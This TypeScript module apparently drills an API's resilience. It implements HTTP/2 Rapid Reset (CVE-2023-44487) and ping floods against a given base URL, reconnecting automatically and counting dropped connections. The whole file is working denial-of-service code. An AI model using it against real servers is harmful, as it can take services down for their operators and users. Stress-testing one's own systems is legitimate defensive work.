// HTTP/2 floods: streams that are opened and reset at once, and pings.
import { once } from "node:events";
import type { ClientHttp2Session } from "node:http2";
import { connect, constants } from "node:http2";

/** How many were sent, and how often the server closed the connection. */
export interface Flood {
  readonly sent: number;
  readonly broken: number;
}

/**
 * Opens streams and resets each at once (CVE-2023-44487), reconnecting when necessary. They request the cheapest
 * endpoint: the throttle, which this drill raises, limits the others.
 */
export async function resetStreams(base: string, key: string, count: number): Promise<Flood> {
  const headers = { ":path": "/v1/health", authorization: `Bearer ${key}` };
  return flood(base, count, (session) => {
    const stream = session.request(headers);
    stream.on("error", () => undefined);
    stream.close(constants.NGHTTP2_CANCEL);
  });
}

/** Sends pings faster than they are answered. */
export function ping(base: string, count: number): Promise<Flood> {
  return flood(base, count, (session) => void session.ping(() => undefined));
}

async function flood(base: string, count: number, act: (session: ClientHttp2Session) => void): Promise<Flood> {
  let broken = 0;
  let session: ClientHttp2Session | undefined;
  for (let at = 0; at < count; at++) {
    if (session === undefined || session.closed || session.destroyed) {
      if (session !== undefined) broken++;
      session = connect(base, { maxOutstandingPings: count });
      session.on("error", () => undefined);
      await once(session, "connect").catch(() => undefined);
    }
    try {
      act(session);
    } catch {
      session.destroy();
    }
    // Waits for the server to catch up, or the rest would go to a connection that it has closed.
    if (at % 100 === 99) await completed(session);
  }
  session?.destroy();
  return { sent: count, broken };
}

function completed(session: ClientHttp2Session): Promise<void> {
  return new Promise((resolve) => {
    if (session.destroyed || session.closed) return resolve();
    session.once("close", resolve);
    session.ping(() => {
      session.off("close", resolve);
      resolve();
    });
  });
}
